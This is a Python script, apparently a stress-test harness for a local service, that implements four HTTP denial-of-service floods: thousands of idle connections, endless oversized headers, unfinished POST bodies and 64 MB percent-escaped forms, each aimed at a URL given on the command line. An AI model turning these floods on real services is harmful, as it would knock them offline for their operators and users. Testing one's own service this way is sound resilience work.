"""Floods of a stranger, who knows only the address of the service: a program, NAME URL SECONDS."""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterator

_MANY = 3000
_LARGE = 64 * 1024 * 1024
_ONE = 256 * 1024


async def idle_connections(endpoint: str, seconds: float) -> None:
    """Hold 3,000 connections that send nothing, and open new ones for those that end."""

    async def hold(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
        await reader.read()

    await _flood(endpoint, seconds, _MANY, hold)


async def endless_heads(endpoint: str, seconds: float) -> None:
    """Send heads that never end."""

    async def send(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"POST / HTTP/1.1\r\n")
        while True:
            writer.write(b"X: " + b"y" * 8000 + b"\r\n")
            await writer.drain()

    await _flood(endpoint, seconds, 100, send)


async def unfinished_forms(endpoint: str, seconds: float) -> None:
    """Send the beginning of 500 forms, without a key."""

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(_head())
        for _ in range(12):
            writer.write(b"%41" * (_ONE // 3))
            await writer.drain()
        await reader.read()

    await _flood(endpoint, seconds, 500, send)


async def large_forms(endpoint: str, seconds: float) -> None:
    """Send forms of 64 MB, all of it escapes, with the key missing or wrong at their end."""

    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(_head())
        for _ in range(_LARGE // _ONE):
            writer.write(b"%41" * (_ONE // 3) + b"&")
            await writer.drain()
        await reader.read()

    await _flood(endpoint, seconds, 8, send)


def _head() -> bytes:
    return (
        b"POST /?Action=ListSession HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Length: %d\r\n\r\n" % _LARGE
    )


async def _flood(
    endpoint: str,
    seconds: float,
    count: int,
    attack: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]],
) -> None:
    """Keep many connections busy until the time is up."""
    where, end = urlsplit(endpoint), time.monotonic() + seconds

    async def repeat() -> None:
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(where.hostname, where.port)
                with _aborted(writer):
                    await attack(reader, writer)
            await asyncio.sleep(0.1)

    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(asyncio.gather(*(repeat() for _ in range(count))), seconds)


@contextlib.contextmanager
def _aborted(writer: asyncio.StreamWriter) -> Iterator[None]:
    try:
        yield
    finally:
        writer.transport.abort()


if __name__ == "__main__":
    floods = [idle_connections, endless_heads, unfinished_forms, large_forms]
    chosen = {one.__name__: one for one in floods}[sys.argv[1]]
    asyncio.run(chosen(sys.argv[2], float(sys.argv[3])))
